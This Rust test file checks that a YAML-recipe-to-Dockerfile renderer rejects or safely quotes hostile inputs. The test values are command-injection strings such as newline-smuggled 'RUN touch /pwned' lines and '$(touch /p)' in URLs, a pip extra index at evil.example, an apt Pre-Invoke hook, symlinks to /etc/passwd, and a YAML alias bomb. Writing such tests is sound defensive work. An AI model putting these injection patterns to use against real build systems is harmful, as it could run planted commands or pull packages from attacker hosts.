//! Hostile recipes: each class of the review (issue 11) is rejected with exit 2 and a
//! located message, or rendered so that the value stays one value.

mod common;
mod dockerfile_parse;

use std::time::{Duration, Instant};

use common::*;
use dockerfile_parse::{parse, shell_words};

fn ok_text(name: &str) -> String {
    std::fs::read_to_string(fixtures().join("recipes/fixture-ok.yaml"))
        .unwrap()
        .replace("name: fixture-ok\n", &format!("name: {name}\n"))
}

/// A source-build recipe over the local base: every field the rocm62 stack uses.
fn source_text(name: &str) -> String {
    format!(
        r#"name: {name}
description: source fixture
status: experimental
rocm: "6.2"
base:
  image: rdna1-test-base:bookworm
  unpinned_reason: local test image
gpu:
  target: gfx1010
  targets:
    gfx1010: null
python:
  version: "3.11"
  bin: python3
pytorch:
  source:
    version: 2.4.1
    repository: https://example.invalid/pytorch
    ref: v2.4.1
    commit: ee1b6804381c57161c477caa380a840a84167676
    arch: [gfx1010]
    patches:
      - patches/a.patch
    torchvision:
      version: 0.19.1
      repository: https://example.invalid/vision
      ref: v0.19.1
      commit: 61943691d3390bd3148a7003b4a501f0e2b7ac6e
      env:
        FORCE_CUDA: "1"
    preflight:
      - "true"
    ccache:
      dir: /root/.ccache
      max_size: 20G
smoke:
  case_timeout_s: 60
  container_timeout_s: 300
  cases:
    - name: medium
      in_channels: 16
      out_channels: 32
      size: 48
source_date_epoch: 1764028800
"#
    )
}

fn sandbox_with_patch() -> Sandbox {
    let sb = Sandbox::new();
    std::fs::create_dir_all(sb.dir.path().join("patches")).unwrap();
    std::fs::write(sb.dir.path().join("patches/a.patch"), "--- a\n+++ b\n").unwrap();
    sb
}

fn line_of(text: &str, needle: &str) -> usize {
    text.lines().position(|l| l.contains(needle)).expect(needle) + 1
}

/// Runs `args` on recipe `name` and requires exit 2 with `file:line:` and the field.
fn rejected(sb: &Sandbox, cmd: &str, name: &str, line: usize, field: &str) -> String {
    // `check` checks every recipe of the folder.
    let o = if cmd == "check" {
        sb.cmd(&["check"])
    } else {
        sb.cmd(&[cmd, name])
    };
    let out = text(&o);
    assert_eq!(o.status.code(), Some(2), "{out}");
    let err = out;
    assert!(
        err.contains(&format!("{name}.yaml:{line}:")),
        "line {line}: {err}"
    );
    assert!(err.contains(&format!("field `{field}`")), "{field}: {err}");
    err
}

fn render(sb: &Sandbox, name: &str) -> String {
    let o = sb.cmd(&["render", name]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    String::from_utf8_lossy(&o.stdout).to_string()
}

#[test]
fn a_newline_in_the_description_is_refused_where_it_is() {
    let sb = Sandbox::new();
    let y = ok_text("desc").replace(
        "description: CPU fixture on the local Debian base image",
        "description: \"x\\nRUN touch /pwned\"",
    );
    sb.write("desc", &y);
    let err = rejected(
        &sb,
        "render",
        "desc",
        line_of(&y, "description:"),
        "description",
    );
    assert!(err.contains("one line of printable text"), "{err}");
}

#[test]
fn values_written_into_shell_lines_are_refused_or_quoted() {
    // MIOpen cache paths must be absolute paths: `/x; touch /pwned #` is refused.
    let sb = Sandbox::new();
    let y = ok_text("miopen").replace(
        "MIOPEN_USER_DB_PATH: /var/cache/miopen/db",
        "MIOPEN_USER_DB_PATH: \"/x; touch /pwned #\"",
    );
    sb.write("miopen", &y);
    rejected(
        &sb,
        "check",
        "miopen",
        line_of(&y, "MIOPEN_USER_DB_PATH"),
        "env.MIOPEN_USER_DB_PATH",
    );

    let sb = sandbox_with_patch();
    let base = source_text("src");
    for (from, to, field) in [
        (
            "repository: https://example.invalid/pytorch",
            "repository: \"https://x.invalid/$(touch /p)\"",
            "pytorch.source.repository",
        ),
        (
            "dir: /root/.ccache",
            "dir: \"/root/.ccache,target=/etc\"",
            "pytorch.source.ccache.dir",
        ),
        ("bin: python3", "bin: \"python3; touch /p\"", "python.bin"),
        (
            "- patches/a.patch",
            "- \"patches/a;touch /p\"",
            "pytorch.source.patches[0]",
        ),
        (
            "image: rdna1-test-base:bookworm",
            "image: \"rdna1-test-base:bookworm\\\\\"",
            "base.image",
        ),
    ] {
        let y = base.replace(from, to);
        assert_ne!(y, base, "{from}");
        sb.write("src", &y);
        rejected(
            &sb,
            "render",
            "src",
            line_of(&y, to.split(':').next().unwrap().trim_start_matches("- ")),
            field,
        );
    }
    // A torchvision build env value is free text: it becomes one quoted shell word.
    let y = base.replace("FORCE_CUDA: \"1\"", "FORCE_CUDA: \"1; touch /pwned\"");
    sb.write("src", &y);
    let df = render(&sb, "src");
    let run = parse(&df)
        .into_iter()
        .find(|i| {
            i.keyword == "RUN"
                && i.rest.contains("setup.py bdist_wheel")
                && i.rest.contains("FORCE_CUDA")
        })
        .expect("the torchvision build");
    assert!(
        shell_words(&run).contains(&"FORCE_CUDA=1; touch /pwned".to_string()),
        "{df}"
    );
}

#[test]
fn steps_cannot_leave_their_run() {
    let sb = Sandbox::new();
    let steps = [
        "echo one\nFROM scratch\nRUN touch /pwned",
        "echo two \\",
        "--mount=type=bind,source=/,target=/host true",
        "[\"/bin/evil\"]",
    ];
    let mut y = ok_text("steps");
    y.push_str("steps:\n");
    for s in steps {
        y.push_str(&format!("  - {}\n", serde_json::to_string(s).unwrap()));
    }
    sb.write("steps", &y);
    let df = render(&sb, "steps");
    let instrs = parse(&df);
    assert_eq!(
        instrs.iter().filter(|i| i.keyword == "FROM").count(),
        1,
        "{df}"
    );
    let runs: Vec<_> = instrs
        .iter()
        .filter(|i| i.keyword == "RUN" && i.exec.is_some())
        .collect();
    assert_eq!(runs.len(), steps.len(), "{df}");
    for (run, step) in runs.iter().zip(steps) {
        assert!(run.flags.is_empty(), "{df}");
        assert_eq!(run.exec.as_ref().unwrap().last().unwrap(), step);
    }
    // The instruction after the steps is still the smoke program's COPY.
    let last_run = instrs.iter().rposition(|i| i.keyword == "RUN").unwrap();
    assert_eq!(instrs[last_run + 1].keyword, "COPY");

    let mut y = ok_text("empty");
    y.push_str("steps:\n  - \"  \"\n");
    sb.write("empty", &y);
    let err = rejected(
        &sb,
        "render",
        "empty",
        line_of(&y, "  - \"  \""),
        "steps[0]",
    );
    assert!(err.contains("empty command"), "{err}");

    let sb = sandbox_with_patch();
    let y = source_text("pre").replace("      - \"true\"", "      - \"true\\nRUN touch /pwned\"");
    sb.write("pre", &y);
    let df = render(&sb, "pre");
    let pre: Vec<_> = parse(&df)
        .into_iter()
        .filter(|i| {
            i.exec
                .as_ref()
                .is_some_and(|a| a.last().unwrap().starts_with("true\n"))
        })
        .collect();
    assert_eq!(pre.len(), 1, "{df}");
    assert!(
        !parse(&df)
            .iter()
            .any(|i| i.rest.starts_with("touch /pwned")),
        "{df}"
    );
}

#[test]
fn wheels_and_apt_packages_have_grammars() {
    let sb = Sandbox::new();
    let wheels = |pkg: &str| {
        ok_text("w").replace(
            "pytorch:\n  preinstalled:\n    version: 1.13.0a0  # Debian python3-torch 1.13.1+dfsg reports 1.13.0a0\n",
            &format!(
                "pytorch:\n  wheels:\n    torch_version: 1.13.1\n    index: https://download.pytorch.org/whl\n    packages:\n{pkg}"
            ),
        )
    };
    let hash = "a".repeat(64);
    for (pkg, needle, field) in [
        (format!("      - name: \"numpy\\n--extra-index-url http://evil.example/\"\n        version: 1.26.4\n        sha256: [{hash}]\n"), "name: \"numpy", "pytorch.wheels.packages[0].name"),
        (format!("      - name: numpy\n        version: \"1.26.4 --hash=sha256:{hash}\"\n        sha256: [{hash}]\n"), "version: \"1.26.4", "pytorch.wheels.packages[0].version"),
        (format!("      - name: numpy\n        version: 1.26.4\n        url: http://localhost:80@evil.example/numpy.whl\n        sha256: [{hash}]\n"), "url:", "pytorch.wheels.packages[0].url"),
    ] {
        let y = wheels(&pkg);
        sb.write("w", &y);
        rejected(&sb, "check", "w", line_of(&y, needle), field);
    }
    for pkg in [
        "--allow-unauthenticated",
        "-oDPkg::Pre-Invoke::=touch /p",
        "python3=",
    ] {
        let y = ok_text("apt").replace(
            "env:\n",
            &format!("system_packages:\n  apt:\n    - python3\n    - \"{pkg}\"\nenv:\n"),
        );
        sb.write("apt", &y);
        let err = rejected(
            &sb,
            "check",
            "apt",
            line_of(&y, &format!("\"{pkg}\"")),
            "system_packages.apt[1]",
        );
        assert!(err.contains("apt package"), "{err}");
    }
    // `check --strict` counts only a real `=version` as a pin.
    let y = ok_text("pins").replace(
        "env:\n",
        "system_packages:\n  apt:\n    - python3=3.11.2-1+b1\n    - python3-numpy\nenv:\n",
    );
    sb.write("pins", &y);
    let o = sb.cmd(&["check", "--strict"]);
    let out = text(&o);
    assert_ne!(o.status.code(), Some(0), "{out}");
    assert!(out.contains("`python3-numpy` has no version"), "{out}");
    assert!(
        !out.contains("`python3=3.11.2-1+b1` has no version"),
        "{out}"
    );
}

#[cfg(unix)]
#[test]
fn files_are_regular_files_inside_the_folder() {
    let sb = Sandbox::new();
    let with_files = |name: &str, list: &[&str]| {
        let mut y = ok_text(name);
        y.push_str("files:\n");
        for f in list {
            y.push_str(&format!("  - {f}\n"));
        }
        sb.write(name, &y);
        y
    };
    std::os::unix::fs::symlink("/etc/passwd", sb.dir.path().join("passwd")).unwrap();
    let y = with_files("link", &["passwd"]);
    let err = rejected(&sb, "render", "link", line_of(&y, "  - passwd"), "files[0]");
    assert!(err.contains("symbolic link"), "{err}");

    std::os::unix::fs::symlink("/etc", sb.dir.path().join("etc")).unwrap();
    let y = with_files("dirlink", &["etc/passwd"]);
    rejected(
        &sb,
        "check",
        "dirlink",
        line_of(&y, "  - etc/passwd"),
        "files[0]",
    );

    std::os::unix::fs::symlink("/dev/zero", sb.dir.path().join("zero")).unwrap();
    let y = with_files("zero", &["zero"]);
    rejected(&sb, "render", "zero", line_of(&y, "  - zero"), "files[0]");

    let fifo = sb.dir.path().join("fifo");
    assert!(std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());
    let y = with_files("fifo", &["fifo"]);
    let t = Instant::now();
    let err = rejected(&sb, "render", "fifo", line_of(&y, "  - fifo"), "files[0]");
    assert!(err.contains("FIFO"), "{err}");
    assert!(t.elapsed() < Duration::from_secs(30));

    // A missing file is bad input (exit 2) for every command, `build` included.
    let y = with_files("missing", &["nope.txt"]);
    rejected(
        &sb,
        "build",
        "missing",
        line_of(&y, "  - nope.txt"),
        "files[0]",
    );

    // A FIFO or a device as the recipe itself: list and check answer instead of hanging.
    assert!(std::process::Command::new("mkfifo")
        .arg(sb.dir.path().join("pipe.yaml"))
        .status()
        .unwrap()
        .success());
    std::os::unix::fs::symlink("/dev/zero", sb.dir.path().join("dev.yaml")).unwrap();
    for cmd in [
        &["list"][..],
        &["check"][..],
        &["render", "pipe"][..],
        &["render", "dev"][..],
    ] {
        let o = sb.cmd(cmd);
        let out = text(&o);
        assert_eq!(o.status.code(), Some(2), "{cmd:?}: {out}");
        assert!(out.contains("not a regular file"), "{cmd:?}: {out}");
    }
}

#[test]
fn two_patches_with_one_name_are_refused() {
    let sb = sandbox_with_patch();
    std::fs::create_dir_all(sb.dir.path().join("other")).unwrap();
    std::fs::write(sb.dir.path().join("other/a.patch"), "x").unwrap();
    let y = source_text("dup").replace(
        "      - patches/a.patch\n",
        "      - patches/a.patch\n      - other/a.patch\n",
    );
    sb.write("dup", &y);
    let err = rejected(
        &sb,
        "render",
        "dup",
        line_of(&y, "other/a.patch"),
        "pytorch.source.patches[1]",
    );
    assert!(err.contains("same name in the build context"), "{err}");
}

#[test]
fn yaml_has_limits_and_no_duplicate_keys() {
    let sb = Sandbox::new();
    // Duplicate keys: the second `gfx1010` would silently drop the override.
    let y = ok_text("dupkey").replace(
        "    gfx1010: \"10.3.0\"\n",
        "    gfx1010: \"10.3.0\"\n    gfx1010: null\n",
    );
    sb.write("dupkey", &y);
    let o = sb.cmd(&["check"]);
    let out = text(&o);
    assert_eq!(o.status.code(), Some(2), "{out}");
    assert!(
        out.contains(&format!("dupkey.yaml:{}:", line_of(&y, "gfx1010: null"))),
        "{out}"
    );
    assert!(out.to_lowercase().contains("duplicate"), "{out}");

    // An alias bomb: nine levels of ten aliases would expand to 10^9 strings.
    let mut bomb = String::from("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
    for i in 1..10 {
        let p = i - 1;
        bomb.push_str(&format!(
            "a{i}: &a{i} [*a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}]\n"
        ));
    }
    let y = format!(
        "{}description: *a9\n",
        ok_text("bomb").replace(
            "description: CPU fixture on the local Debian base image\n",
            ""
        )
    )
    .replacen("name: bomb\n", &format!("name: bomb\n{bomb}"), 1);
    sb.write("bomb", &y);
    let o = sb.cmd(&["render", "bomb"]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));

    // 100,000 levels of nesting are refused at the depth limit, with the place.
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    let y = ok_text("deep").replace(
        "description: CPU fixture on the local Debian base image",
        &format!("description: {deep}"),
    );
    sb.write("deep", &y);
    let o = sb.cmd(&["render", "deep"]);
    let out = text(&o);
    assert_eq!(o.status.code(), Some(2), "{out}");
    assert!(
        out.contains(&format!("deep.yaml:{}:", line_of(&y, "description:"))),
        "{out}"
    );

    // Larger than 1 MiB.
    let y = format!("{}# {}\n", ok_text("huge"), "x".repeat(1 << 20));
    sb.write("huge", &y);
    let o = sb.cmd(&["render", "huge"]);
    let out = text(&o);
    assert_eq!(o.status.code(), Some(2), "{out}");
    assert!(out.contains("1 MiB"), "{out}");
}

#[test]
fn strict_check_reports_every_unpinned_entry_with_its_line() {
    let sb = Sandbox::new();
    let n = 20_000;
    let mut apt = String::from("system_packages:\n  apt:\n");
    for i in 0..n {
        apt.push_str(&format!("    - pkg{i}\n"));
    }
    let y = ok_text("many").replace("env:\n", &format!("{apt}env:\n"));
    sb.write("many", &y);
    let o = sb.cmd(&["check", "--strict"]);
    let out = text(&o);
    assert_ne!(o.status.code(), Some(0));
    let first = line_of(&y, "- pkg0");
    for i in [0, n / 2, n - 1] {
        assert!(
            out.contains(&format!(
                "many.yaml:{}:7: field `system_packages.apt[{i}]`",
                first + i
            )),
            "entry {i}"
        );
    }
    assert_eq!(out.matches("has no version").count(), n);
}

#[test]
fn numbers_and_guards() {
    let sb = Sandbox::new();
    for (from, to, field) in [
        (
            "container_timeout_s: 300",
            "container_timeout_s: .inf",
            "smoke.container_timeout_s",
        ),
        (
            "case_timeout_s: 60",
            "case_timeout_s: 1e300",
            "smoke.case_timeout_s",
        ),
        (
            "source_date_epoch: 1764028800",
            "source_date_epoch: 18446744073709551615",
            "source_date_epoch",
        ),
    ] {
        let y = ok_text("num").replace(from, to);
        sb.write("num", &y);
        rejected(
            &sb,
            "check",
            "num",
            line_of(&y, to.split(':').next().unwrap()),
            field,
        );
    }
    for v in [
        "\"3\"",
        "\"03\"",
        "\"4\"",
        "SEARCH",
        "search_db_update",
        "\" 3 \"",
    ] {
        let y =
            ok_text("enforce").replace("env:\n", &format!("env:\n  MIOPEN_FIND_ENFORCE: {v}\n"));
        sb.write("enforce", &y);
        let err = rejected(
            &sb,
            "check",
            "enforce",
            line_of(&y, "MIOPEN_FIND_ENFORCE"),
            "env.MIOPEN_FIND_ENFORCE",
        );
        assert!(err.contains("SEARCH"), "{err}");
    }
    let y = ok_text("enforce").replace("env:\n", "env:\n  MIOPEN_FIND_ENFORCE: \"1\"\n");
    sb.write("enforce", &y);
    assert_eq!(sb.cmd(&["render", "enforce"]).status.code(), Some(0));
}
